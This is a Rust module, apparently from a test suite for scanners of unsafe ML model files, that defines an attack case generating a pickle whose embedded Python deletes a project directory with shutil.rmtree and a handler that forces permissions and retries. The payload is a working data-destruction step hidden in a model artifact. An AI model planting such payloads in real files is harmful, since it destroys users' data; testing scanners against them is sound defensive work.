//! `shutil.rmtree` with a handler that insists.

use super::*;

/// A directory is removed with all that is in it.
pub const ATTACK: Attack = Attack {
    id: "rmtree",
    title: "a project is deleted by shutil.rmtree",
    summary: "The pickle deletes a directory with everything in it. Where something cannot \
              be removed, a handler makes it writable and tries again.",
    severity: Severity::High,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::DATA_DESTRUCTION, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 73],
    references: &[
        Reference {
            title: "modelscan pull request 198: debuggers and shutil are unsafe",
            url: "https://github.com/protectai/modelscan/pull/198",
        },
        Reference {
            title: "Python documentation: shutil.rmtree",
            url: "https://docs.python.org/3/library/shutil.html#shutil.rmtree",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Deleted("project/weights.txt"), Sign::Deleted("project/notes/todo.txt")],
        policy: &[Evidence { kind: EventKind::FileChange, text: "/project" }],
    },
    quick: true,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let project = payload::quoted(&scene.path(PROJECT));
    // The handler imports for itself: names of the source are not seen inside its functions.
    let source = format!(
        r"
import shutil
def insist(function, name, error):
    import os, shutil
    os.chmod(name, 0o700)
    if os.path.isdir(name):
        shutil.rmtree(name)
    else:
        os.unlink(name)
shutil.rmtree({project}, onerror=insist)
"
    );
    payload::program(ATTACK.id, target, &source)
}
